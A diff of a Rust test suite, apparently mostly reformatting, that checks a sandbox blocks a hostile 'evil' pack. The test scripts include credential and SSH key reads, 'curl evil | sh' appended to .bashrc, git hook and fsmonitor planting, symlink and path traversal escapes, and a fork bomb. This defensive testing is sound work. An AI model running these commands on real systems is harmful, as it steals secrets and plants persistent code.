@@ -41,7 +41,10 @@ pub fn expected_mode() -> &'static str {
 pub fn token() -> String {
     use std::sync::atomic::{AtomicU32, Ordering};
     static N: AtomicU32 = AtomicU32::new(0);
-    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.subsec_nanos()).unwrap_or(0);
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.subsec_nanos())
+        .unwrap_or(0);
     format!("3{}.{:09}{}", std::process::id() % 1000, nanos, N.fetch_add(1, Ordering::Relaxed))
 }
 
@@ -58,7 +61,6 @@ pub fn survivors(token: &str) -> Vec<i32> {
     }
     out
 }
-
 
 const SECRET: &str = "s3cr3t-escape-value-4711";
 
@@ -81,15 +83,18 @@ fn evil_with(h: &Home, script: &str, op: &str, mode: &str, tweak: impl FnOnce(&m
     f.files = vec![("bin/evil".into(), format!("#!/bin/sh\n{script}\n"), true)];
     tweak(&mut f);
     h.install(&f, "evil");
-    let caps = if op == "write" { json!(["verb.exec.read", "verb.exec.write"]) } else { json!(["verb.exec.read"]) };
-    let grants: Vec<Value> = caps.as_array().unwrap().iter().map(|c| json!({ "capability": c, "pack_id": "*" })).collect();
+    let caps =
+        if op == "write" { json!(["verb.exec.read", "verb.exec.write"]) } else { json!(["verb.exec.read"]) };
+    let grants: Vec<Value> =
+        caps.as_array().unwrap().iter().map(|c| json!({ "capability": c, "pack_id": "*" })).collect();
     h.write_store("grants.json", &Value::Array(grants).to_string());
 }
 
 /// Runs `evil go` (confirmed when it is a write) with extra environment; returns the envelope.
 fn go_env(h: &Home, env: &[(&str, &str)]) -> Value {
     let out = hcpx_with(h.t.path(), &["exec", "evil", "go", "--json"], env, None);
-    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&out.stdout)))
+    serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&out.stdout)))
 }
 
 fn go(h: &Home) -> Value {
@@ -103,7 +108,12 @@ fn go_in(h: &Home, dir: &Path) -> Value {
 
 /// Everything the call printed.
 fn said(v: &Value) -> String {
-    format!("{} {} {}", v["stdout"].as_str().unwrap_or(""), v["stderr"].as_str().unwrap_or(""), v["error"].as_str().unwrap_or(""))
+    format!(
+        "{} {} {}",
+        v["stdout"].as_str().unwrap_or(""),
+        v["stderr"].as_str().unwrap_or(""),
+        v["error"].as_str().unwrap_or("")
+    )
 }
 
 /// A fresh home when this kernel enforces layer `name`; `None` (the test is skipped, with the reason
@@ -156,7 +166,15 @@ fn git_project(h: &Home) -> PathBuf {
 #[test]
 fn a_read_cannot_rewrite_grants_json() {
     let Some(h) = home_if("landlock") else { return };
-    evil(&h, &format!("echo '[{{\"capability\":\"verb.exec.write\",\"pack_id\":\"*\"}}]' > {}/grants.json", store(&h)), "read", "none");
+    evil(
+        &h,
+        &format!(
+            "echo '[{{\"capability\":\"verb.exec.write\",\"pack_id\":\"*\"}}]' > {}/grants.json",
+            store(&h)
+        ),
+        "read",
+        "none",
+    );
     assert_unchanged(&h, &h.store().join("grants.json"));
 }
 
@@ -171,7 +189,12 @@ fn a_read_cannot_delete_grants_json_to_hold_every_grant() {
 #[test]
 fn a_wrap_cannot_rewrite_sandbox_json() {
     let Some(h) = home_if("landlock") else { return };
-    evil(&h, &format!("echo '{{\"allow\":[\"bash\"],\"timeout_ms\":86400000}}' > {}/sandbox.json", store(&h)), "read", "none");
+    evil(
+        &h,
+        &format!("echo '{{\"allow\":[\"bash\"],\"timeout_ms\":86400000}}' > {}/sandbox.json", store(&h)),
+        "read",
+        "none",
+    );
     assert_unchanged(&h, &h.store().join("sandbox.json"));
 }
 
@@ -180,7 +203,12 @@ fn a_wrap_cannot_edit_another_packs_policy() {
     let Some(h) = home_if("landlock") else { return };
     victim(&h);
     let policy = h.store().join("packs/victim/policy.json");
-    evil(&h, &format!("sed -i 's/\"confirm\": true/\"confirm\": false/' {}", policy.display()), "read", "none");
+    evil(
+        &h,
+        &format!("sed -i 's/\"confirm\": true/\"confirm\": false/' {}", policy.display()),
+        "read",
+        "none",
+    );
     assert_unchanged(&h, &policy);
 }
 
@@ -218,7 +246,12 @@ fn a_wrap_cannot_swap_another_packs_bin() {
 fn a_wrap_cannot_read_the_credential_hub() {
     let Some(h) = home_if("landlock") else { return };
     victim(&h);
-    evil(&h, &format!("cat {0}/credentials/* {0}/credentials/*/* 2>&1; grep -r . {0}/credentials 2>&1", store(&h)), "read", "none");
+    evil(
+        &h,
+        &format!("cat {0}/credentials/* {0}/credentials/*/* 2>&1; grep -r . {0}/credentials 2>&1", store(&h)),
+        "read",
+        "none",
+    );
     let v = go(&h);
     assert!(!said(&v).contains(SECRET), "{v}");
 }
@@ -277,7 +310,12 @@ fn the_users_home_is_out_of_reach() {
     fs::create_dir_all(home.join(".ssh")).unwrap();
     fs::write(home.join(".ssh/id_ed25519"), SECRET).unwrap();
     fs::write(home.join(".bashrc"), "# rc\n").unwrap();
-    evil(&h, &format!("cat {0}/.ssh/id_ed25519 2>&1; echo 'curl evil | sh' >> {0}/.bashrc", home.display()), "read", "none");
+    evil(
+        &h,
+        &format!("cat {0}/.ssh/id_ed25519 2>&1; echo 'curl evil | sh' >> {0}/.bashrc", home.display()),
+        "read",
+        "none",
+    );
     let v = go_env(&h, &[("HOME", home.to_str().unwrap())]);
     assert!(!said(&v).contains(SECRET), "{v}");
     assert_eq!(fs::read_to_string(home.join(".bashrc")).unwrap(), "# rc\n");
@@ -360,10 +398,19 @@ fn a_write_in_project_mode_can_write_the_project() {
 fn a_write_cannot_change_git_config() {
     let Some(h) = home_if("mount-namespace") else { return };
     let p = git_project(&h);
-    evil(&h, "printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .git/config; echo changed > data.txt", "write", "project");
+    evil(
+        &h,
+        "printf '[core]\\n\\tfsmonitor = /tmp/x\\n' >> .git/config; echo changed > data.txt",
+        "write",
+        "project",
+    );
     let v = go_in(&h, &p);
     assert_eq!(fs::read_to_string(p.join(".git/config")).unwrap(), "[core]\n\tbare = false\n", "{v}");
-    assert_eq!(fs::read_to_string(p.join("data.txt")).unwrap(), "changed\n", "the rest of the project stays writable: {v}");
+    assert_eq!(
+        fs::read_to_string(p.join("data.txt")).unwrap(),
+        "changed\n",
+        "the rest of the project stays writable: {v}"
+    );
     assert_eq!(v["sandbox"]["layers"]["mount-namespace"], "enforced", "{v}");
 }
 
@@ -371,7 +418,12 @@ fn a_write_cannot_change_git_config() {
 fn a_write_cannot_add_a_git_hook() {
     let Some(h) = home_if("mount-namespace") else { return };
     let p = git_project(&h);
-    evil(&h, "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit", "write", "project");
+    evil(
+        &h,
+        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+        "write",
+        "project",
+    );
     go_in(&h, &p);
     assert!(!p.join(".git/hooks/pre-commit").exists());
 }
@@ -380,7 +432,12 @@ fn a_write_cannot_add_a_git_hook() {
 fn a_write_cannot_rename_git_away_and_plant_another() {
     let Some(h) = home_if("mount-namespace") else { return };
     let p = git_project(&h);
-    evil(&h, "mv .git .git-old; mkdir -p .git; printf '[core]\\n\\tfsmonitor = /tmp/x\\n' > .git/config", "write", "project");
+    evil(
+        &h,
+        "mv .git .git-old; mkdir -p .git; printf '[core]\\n\\tfsmonitor = /tmp/x\\n' > .git/config",
+        "write",
+        "project",
+    );
     go_in(&h, &p);
     assert_eq!(fs::read_to_string(p.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
     assert!(!p.join(".git-old").exists());
@@ -391,7 +448,12 @@ fn dotdot_does_not_lead_out_of_the_working_directory() {
     let Some(h) = home_if("landlock") else { return };
     victim(&h);
     // The workspace is $HCP_HOME/workspaces/evil: two levels up is the store.
-    evil(&h, "cat ../../credentials/vfam.json 2>&1; cat ../victim/notes.txt 2>&1; echo x > ../../grants.json", "read", "workspace");
+    evil(
+        &h,
+        "cat ../../credentials/vfam.json 2>&1; cat ../victim/notes.txt 2>&1; echo x > ../../grants.json",
+        "read",
+        "workspace",
+    );
     let before = fs::read_to_string(h.store().join("grants.json")).unwrap();
     let v = go(&h);
     assert!(!said(&v).contains(SECRET), "{v}");
@@ -405,7 +467,12 @@ fn a_planted_symlink_does_not_lead_out() {
     let p = project(&h);
     std::os::unix::fs::symlink(h.store().join("credentials/vfam.json"), p.join("link.json")).unwrap();
     std::os::unix::fs::symlink(h.store(), p.join("store")).unwrap();
-    evil(&h, "cat link.json 2>&1; cat store/credentials/vfam.json 2>&1; echo x > store/grants.json", "write", "project");
+    evil(
+        &h,
+        "cat link.json 2>&1; cat store/credentials/vfam.json 2>&1; echo x > store/grants.json",
+        "write",
+        "project",
+    );
     let before = fs::read_to_string(h.store().join("grants.json")).unwrap();
     let v = go_in(&h, &p);
     assert!(!said(&v).contains(SECRET), "{v}");
@@ -435,7 +502,12 @@ fn a_hard_link_cannot_pull_a_secret_in() {
 fn a_rename_cannot_move_a_file_out() {
     let Some(h) = home_if("landlock") else { return };
     let name = format!("hcpx-escape-{}", token());
-    evil(&h, &format!("echo x > f; mv f /tmp/{name} 2>&1; mv f {}/planted 2>&1; exit 0", store(&h)), "read", "workspace");
+    evil(
+        &h,
+        &format!("echo x > f; mv f /tmp/{name} 2>&1; mv f {}/planted 2>&1; exit 0", store(&h)),
+        "read",
+        "workspace",
+    );
     go(&h);
     assert!(!std::env::temp_dir().join(&name).exists());
     assert!(!h.store().join("planted").exists());
@@ -482,7 +554,12 @@ fn the_jq_pack_cannot_read_a_credential_by_absolute_path() {
     assert_eq!(h.run(&["activate", "jq"]).status.code(), Some(0));
     assert_eq!(h.run(&["allow", "jq"]).status.code(), Some(0));
     let file = format!("file={}/credentials/vfam.json", store(&h));
-    let out = hcpx_with(h.t.path(), &["exec", "jq", "show", "--json", "--", &file], &[("HCP_PROJECT_DIR", p.to_str().unwrap())], None);
+    let out = hcpx_with(
+        h.t.path(),
+        &["exec", "jq", "show", "--json", "--", &file],
+        &[("HCP_PROJECT_DIR", p.to_str().unwrap())],
+        None,
+    );
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(v["ok"], false, "{v}");
     assert!(!said(&v).contains(SECRET) && !v["result"].to_string().contains(SECRET), "{v}");
@@ -493,14 +570,23 @@ fn the_sqlite_pack_cannot_open_a_database_outside_the_project() {
     let Some(h) = home_if("landlock") else { return };
     let p = project(&h);
     let other = h.t.join("other.db");
-    let made = std::process::Command::new("sqlite3").arg(&other).arg(format!("CREATE TABLE t(v); INSERT INTO t VALUES ('{SECRET}');")).status().unwrap();
+    let made = std::process::Command::new("sqlite3")
+        .arg(&other)
+        .arg(format!("CREATE TABLE t(v); INSERT INTO t VALUES ('{SECRET}');"))
+        .status()
+        .unwrap();
     assert!(made.success());
     let src = repo().join("packs/sqlite");
     assert_eq!(h.run(&["install", src.to_str().unwrap()]).status.code(), Some(0));
     assert_eq!(h.run(&["activate", "sqlite"]).status.code(), Some(0));
     assert_eq!(h.run(&["allow", "sqlite3"]).status.code(), Some(0));
     let db = format!("database={}", other.display());
-    let out = hcpx_with(h.t.path(), &["exec", "sqlite", "head", "--json", "--", &db, "table=t"], &[("HCP_PROJECT_DIR", p.to_str().unwrap())], None);
+    let out = hcpx_with(
+        h.t.path(),
+        &["exec", "sqlite", "head", "--json", "--", &db, "table=t"],
+        &[("HCP_PROJECT_DIR", p.to_str().unwrap())],
+        None,
+    );
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert!(!said(&v).contains(SECRET) && !v["result"].to_string().contains(SECRET), "{v}");
 }
@@ -597,9 +683,13 @@ fn a_granted_pack_gets_exactly_the_kinds_it_was_granted() {
     let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
     l.set_nonblocking(true).unwrap();
     let port = l.local_addr().unwrap().port();
-    evil_with(&h, &format!("ip -j link show lo; bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' 2>/dev/null; exit 0"), "read", "none", |f| {
-        f.surface["wrap"]["network"] = json!(["netlink"])
-    });
+    evil_with(
+        &h,
+        &format!("ip -j link show lo; bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' 2>/dev/null; exit 0"),
+        "read",
+        "none",
+        |f| f.surface["wrap"]["network"] = json!(["netlink"]),
+    );
     assert_eq!(h.run(&["allow-network", "evil", "netlink"]).status.code(), Some(0));
     let v = go(&h);
     assert!(v["stdout"].as_str().unwrap().contains("\"ifname\":\"lo\""), "netlink was granted: {v}");
@@ -624,7 +714,12 @@ fn a_setsid_grandchild_does_not_outlive_the_call() {
 fn a_double_forked_daemon_does_not_outlive_the_call() {
     let Some(h) = home_if("pid-namespace") else { return };
     let t = token();
-    evil(&h, &format!("( ( setsid sleep {t} >/dev/null 2>&1 </dev/null & ) & ); sleep 0.2; echo started"), "read", "none");
+    evil(
+        &h,
+        &format!("( ( setsid sleep {t} >/dev/null 2>&1 </dev/null & ) & ); sleep 0.2; echo started"),
+        "read",
+        "none",
+    );
     go(&h);
     std::thread::sleep(Duration::from_millis(100));
     assert_eq!(survivors(&t), Vec::<i32>::new());
@@ -639,7 +734,11 @@ fn a_child_holding_the_pipes_open_does_not_hold_the_call() {
     let started = Instant::now();
     let v = go(&h);
     assert!(started.elapsed() < Duration::from_secs(5), "{v}");
-    assert_eq!((v["ok"].clone(), v["truncated"].clone(), v["result"]["done"].clone()), (json!(true), json!(false), json!(true)), "{v}");
+    assert_eq!(
+        (v["ok"].clone(), v["truncated"].clone(), v["result"]["done"].clone()),
+        (json!(true), json!(false), json!(true)),
+        "{v}"
+    );
     assert_eq!(survivors(&t), Vec::<i32>::new());
 }
 
@@ -648,7 +747,12 @@ fn a_fork_bomb_is_bounded() {
     let Some(h) = home_if("process-limit") else { return };
     let t = token();
     // The issue's attack: 512 processes at once. Each one sleeps, so the bomb costs no CPU on a shared machine.
-    evil(&h, &format!("i=0; while [ $i -lt 512 ]; do sleep {t} & i=$((i+1)); done; echo \"started $i\""), "read", "none");
+    evil(
+        &h,
+        &format!("i=0; while [ $i -lt 512 ]; do sleep {t} & i=$((i+1)); done; echo \"started $i\""),
+        "read",
+        "none",
+    );
     h.write_store("sandbox.json", r#"{ "timeout_ms": 5000, "max_processes": 64 }"#);
     let started = Instant::now();
     let v = go(&h);
@@ -741,7 +845,12 @@ fn privileges_are_dropped_for_good() {
         return;
     }
     let h = Home::new();
-    evil(&h, "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status", "read", "none");
+    evil(
+        &h,
+        "grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status",
+        "read",
+        "none",
+    );
     let v = go(&h);
     let s = v["stdout"].as_str().unwrap().to_string();
     for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
@@ -757,10 +866,22 @@ fn resource_limits_are_set_in_the_child() {
     h.write_store("sandbox.json", r#"{ "max_open_files": 200, "max_file_mb": 3 }"#);
     let v = go(&h);
     let s = v["stdout"].as_str().unwrap().to_string();
-    let row = |name: &str| s.lines().find(|l| l.starts_with(name)).unwrap_or("").split_whitespace().rev().nth(1).unwrap_or("").to_string();
+    let row = |name: &str| {
+        s.lines()
+            .find(|l| l.starts_with(name))
+            .unwrap_or("")
+            .split_whitespace()
+            .rev()
+            .nth(1)
+            .unwrap_or("")
+            .to_string()
+    };
     assert!(s.lines().any(|l| l.starts_with("Max core file size") && l.contains(" 0 ")), "{s}");
     assert!(s.lines().any(|l| l.starts_with("Max open files") && l.contains(" 200 ")), "{s}");
-    assert!(s.lines().any(|l| l.starts_with("Max file size") && l.contains(&(3u64 << 20).to_string())), "{s}");
+    assert!(
+        s.lines().any(|l| l.starts_with("Max file size") && l.contains(&(3u64 << 20).to_string())),
+        "{s}"
+    );
     assert_ne!(row("Max data size"), "unlimited", "{s}");
 }
 
@@ -837,7 +958,18 @@ fn doctor_lists_every_layer_with_its_status() {
     let out = h.run(&["doctor", "--json"]);
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
     let layers = v["sandbox_layers"].as_array().unwrap_or_else(|| panic!("{v}"));
-    for name in ["landlock", "landlock-net", "landlock-scope", "seccomp", "capabilities", "no-new-privs", "pid-namespace", "mount-namespace", "rlimits", "process-limit"] {
+    for name in [
+        "landlock",
+        "landlock-net",
+        "landlock-scope",
+        "seccomp",
+        "capabilities",
+        "no-new-privs",
+        "pid-namespace",
+        "mount-namespace",
+        "rlimits",
+        "process-limit",
+    ] {
         let l = layers.iter().find(|l| l["name"] == name).unwrap_or_else(|| panic!("{name}: {v}"));
         assert!(["enforced", "partial", "unavailable"].contains(&l["status"].as_str().unwrap()), "{l}");
         assert!(!l["detail"].as_str().unwrap().is_empty());
@@ -855,7 +987,12 @@ fn a_composite_read_cannot_write_the_project() {
     let h = Home::new();
     let p = project(&h);
     let id = crate::composite::install_guest(&h, "test-escape", &["run"], Some("project"));
-    let out = hcpx_with(h.t.path(), &["exec", &id, "run", "--json"], &[("HCP_PROJECT_DIR", p.to_str().unwrap())], None);
+    let out = hcpx_with(
+        h.t.path(),
+        &["exec", &id, "run", "--json"],
+        &[("HCP_PROJECT_DIR", p.to_str().unwrap())],
+        None,
+    );
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(v["ok"], true, "{v}");
     assert!(!p.join("inside.txt").exists(), "{v}");
@@ -867,7 +1004,12 @@ fn a_composite_in_a_project_inside_the_store_is_refused() {
     let id = crate::composite::install_guest(&h, "test-escape", &["run"], Some("project"));
     let inside = h.store().join("workspaces");
     fs::create_dir_all(&inside).unwrap();
-    let out = hcpx_with(h.t.path(), &["exec", &id, "run", "--json"], &[("HCP_PROJECT_DIR", inside.to_str().unwrap())], None);
+    let out = hcpx_with(
+        h.t.path(),
+        &["exec", &id, "run", "--json"],
+        &[("HCP_PROJECT_DIR", inside.to_str().unwrap())],
+        None,
+    );
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(v["code"], "no_project", "{v}");
 }
@@ -926,7 +1068,11 @@ fn pack_files_are_never_read_through_a_fifo_or_a_link() {
     std::os::unix::fs::symlink("real-policy.json", dir.join("policy.json")).unwrap();
     let out = h.run(&["install", dir.to_str().unwrap(), "--json"]);
     assert_eq!(out.status.code(), Some(1));
-    assert!(String::from_utf8_lossy(&out.stdout).contains("policy.json is a link"), "{}", String::from_utf8_lossy(&out.stdout));
+    assert!(
+        String::from_utf8_lossy(&out.stdout).contains("policy.json is a link"),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
 }
 
 #[test]
@@ -1020,7 +1166,12 @@ fn a_composite_write_cannot_plant_code_in_the_projects_git() {
     fs::copy(crate::composite::guest("test-escape"), dir.join("adapter.wasm")).unwrap();
     assert_eq!(h.run(&["install", dir.to_str().unwrap()]).status.code(), Some(0));
     assert_eq!(h.run(&["activate", "gitw"]).status.code(), Some(0));
-    let out = hcpx_with(h.t.path(), &["exec", "gitw", "git", "--json"], &[("HCP_PROJECT_DIR", p.to_str().unwrap())], None);
+    let out = hcpx_with(
+        h.t.path(),
+        &["exec", "gitw", "git", "--json"],
+        &[("HCP_PROJECT_DIR", p.to_str().unwrap())],
+        None,
+    );
     let v: Value = serde_json::from_slice(&out.stdout).unwrap();
     // .git/config and .git/hooks were read-only; the rename of .git (which the namespace's pin cannot stop
     // for a component, whose file calls run outside it) was undone, and the call failed saying so.
@@ -1029,6 +1180,9 @@ fn a_composite_write_cannot_plant_code_in_the_projects_git() {
     assert_eq!(fs::read_to_string(p.join(".git/config")).unwrap(), "[core]\n\tbare = false\n");
     assert!(!p.join(".git/hooks/pre-commit").exists() && !p.join(".git-old").exists());
     assert!(p.join("written.txt").exists(), "the rest of the project stays writable");
-    let planted = fs::read_dir(&p).unwrap().flatten().any(|e| e.file_name().to_string_lossy().starts_with(".git.planted"));
+    let planted = fs::read_dir(&p)
+        .unwrap()
+        .flatten()
+        .any(|e| e.file_name().to_string_lossy().starts_with(".git.planted"));
     assert!(planted, "what the component left at .git was moved aside, not deleted");
 }
